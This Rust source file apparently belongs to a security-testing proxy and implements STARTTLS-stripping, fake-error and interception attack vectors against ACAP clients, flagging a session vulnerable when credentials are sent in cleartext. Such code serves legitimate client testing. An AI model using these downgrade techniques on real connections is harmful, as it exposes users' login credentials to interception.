// SPDX-License-Identifier: Apache-2.0

//! ACAP attack vectors (spec.md section 4.3, "ACAP"). Capability
//! advertisements are a run of parenthesised groups, `(...)(...)...`,
//! extracted with the regex `\(([^)]+)\)` rather than a real ACAP parser.

use std::sync::{Arc, OnceLock};

use async_trait::async_trait;
use regex::Regex;

use super::{contains_ci, ArcVector, AttackVector, MangleCtx};
use crate::detect::Protocol;
use crate::error::{ProxyError, ProxyResult};

pub enum AcapVector {
    StripFromCapabilities,
    StripWithError,
    UntrustedIntercept,
}

fn group_regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\(([^)]+)\)").unwrap())
}

fn client_tag(data: &[u8]) -> String {
    String::from_utf8_lossy(data)
        .split_whitespace()
        .next()
        .unwrap_or("*")
        .to_string()
}

fn is_starttls_command(data: &[u8]) -> bool {
    String::from_utf8_lossy(data)
        .split_whitespace()
        .nth(1)
        .map(|v| v.eq_ignore_ascii_case("starttls"))
        .unwrap_or(false)
}

/// Every ACAP vector marks the session vulnerable the moment the client
/// sends `AUTHENTICATE` in cleartext (spec.md section 4.3: " AUTHENTICATE "
/// sentinel).
fn mark_if_authenticate(ctx: &MangleCtx<'_>, data: &[u8]) {
    if contains_ci(data, " authenticate ") {
        ctx.mark_vulnerable();
    }
}

/// Re-emits only the parenthesised groups that do not mention STARTTLS,
/// in place of the original run of groups.
fn strip_starttls_groups(data: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(data);
    let re = group_regex();
    let matches: Vec<_> = re.find_iter(&text).collect();
    if matches.is_empty() {
        return data.to_vec();
    }
    let first = matches[0].start();
    let last = matches[matches.len() - 1].end();
    let mut kept = String::new();
    for m in re.find_iter(&text) {
        if !m.as_str().to_ascii_lowercase().contains("starttls") {
            kept.push_str(m.as_str());
        }
    }
    let mut out = String::with_capacity(text.len());
    out.push_str(&text[..first]);
    out.push_str(&kept);
    out.push_str(&text[last..]);
    out.into_bytes()
}

#[async_trait]
impl AttackVector for AcapVector {
    fn protocol(&self) -> Protocol {
        Protocol::Acap
    }

    fn name(&self) -> &'static str {
        match self {
            AcapVector::StripFromCapabilities => "StripFromCapabilities",
            AcapVector::StripWithError => "StripWithError",
            AcapVector::UntrustedIntercept => "UntrustedIntercept",
        }
    }

    async fn mangle_client_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            AcapVector::StripFromCapabilities => {
                mark_if_authenticate(ctx, data);
                Ok(Some(data.to_vec()))
            }
            AcapVector::StripWithError => {
                if is_starttls_command(data) {
                    let tag = client_tag(data);
                    let reply = format!("{tag} BAD \"command unknown or arguments invalid\"");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    return Ok(None);
                }
                mark_if_authenticate(ctx, data);
                Ok(Some(data.to_vec()))
            }
            AcapVector::UntrustedIntercept => {
                if is_starttls_command(data) {
                    let tag = client_tag(data);
                    let reply = format!("{tag} OK \"Begin TLS negotiation now\"");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    ctx.upgrade_inbound_as_server().await?;
                    ctx.send_to_upstream(data).await?;
                    let resp = ctx.recv_from_upstream(4096).await?;
                    if !contains_ci(&resp, " ok ") {
                        return Err(ProxyError::ProtocolViolation(
                            "upstream rejected forwarded STARTTLS",
                        ));
                    }
                    ctx.upgrade_outbound_as_client().await?;
                    return Ok(None);
                }
                mark_if_authenticate(ctx, data);
                Ok(Some(data.to_vec()))
            }
        }
    }

    async fn mangle_server_data(
        &self,
        _ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            AcapVector::StripFromCapabilities => {
                if contains_ci(data, "acap") && contains_ci(data, "starttls") {
                    return Ok(Some(strip_starttls_groups(data)));
                }
                Ok(Some(data.to_vec()))
            }
            _ => Ok(Some(data.to_vec())),
        }
    }
}

pub fn all() -> Vec<ArcVector> {
    vec![
        Arc::new(AcapVector::StripFromCapabilities),
        Arc::new(AcapVector::StripWithError),
        Arc::new(AcapVector::UntrustedIntercept),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn drops_only_groups_mentioning_starttls() {
        let data = b"* ACAP (STARTTLS)(SASL \"PLAIN\")(IMPLEMENTATION \"test\")\r\n";
        let out = strip_starttls_groups(data);
        let text = String::from_utf8(out).unwrap();
        assert!(!text.to_ascii_lowercase().contains("starttls"));
        assert!(text.contains("SASL"));
        assert!(text.contains("IMPLEMENTATION"));
    }

    #[test]
    fn starttls_command_detection() {
        assert!(is_starttls_command(b"a1 STARTTLS"));
        assert!(!is_starttls_command(b"a1 AUTHENTICATE PLAIN"));
    }
}
